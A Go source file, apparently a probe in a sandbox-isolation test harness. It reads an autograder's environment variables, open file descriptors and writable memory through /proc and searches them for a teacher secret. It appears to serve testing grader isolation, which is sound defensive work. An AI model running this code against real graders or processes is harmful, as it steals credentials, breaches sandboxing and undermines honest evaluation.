package main

// Read the grader's environment, memory and open files through /proc: its
// pid was learnt from `ps` while a classmate was graded, and our parent is
// the grader too.

import (
	"bufio"
	"fmt"
	"os"
	"strconv"
	"strings"
)

var _ = attack(func() {
	for _, pid := range []int{targetCheckerPID, os.Getppid(), 1} {
		dir := fmt.Sprintf("/proc/%d", pid)
		env, err := os.ReadFile(dir + "/environ")
		report("procspy %d environ=%q (%v)", pid, env, err)
		links, err := os.ReadDir(dir + "/fd")
		report("procspy %d fds=%d (%v)", pid, len(links), err)
		maps, err := os.Open(dir + "/maps")
		if err != nil {
			report("procspy %d maps: %v", pid, err)
			continue
		}
		mem, err := os.Open(dir + "/mem")
		if err != nil {
			report("procspy %d mem: %v", pid, err)
			maps.Close()
			continue
		}
		sc := bufio.NewScanner(maps)
		stolen := 0
		for sc.Scan() {
			f := strings.Fields(sc.Text())
			if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
				continue
			}
			lohi := strings.SplitN(f[0], "-", 2)
			lo, _ := strconv.ParseUint(lohi[0], 16, 64)
			buf := make([]byte, 1<<16)
			n, _ := mem.ReadAt(buf, int64(lo))
			stolen += n
			if i := strings.Index(string(buf[:n]), "FORKROOM_TEACHER_SECRET="); i >= 0 {
				report("procspy %d memory holds %q", pid, buf[i:i+64])
			}
		}
		report("procspy %d read %d bytes of memory", pid, stolen)
		maps.Close()
		mem.Close()
	}
})
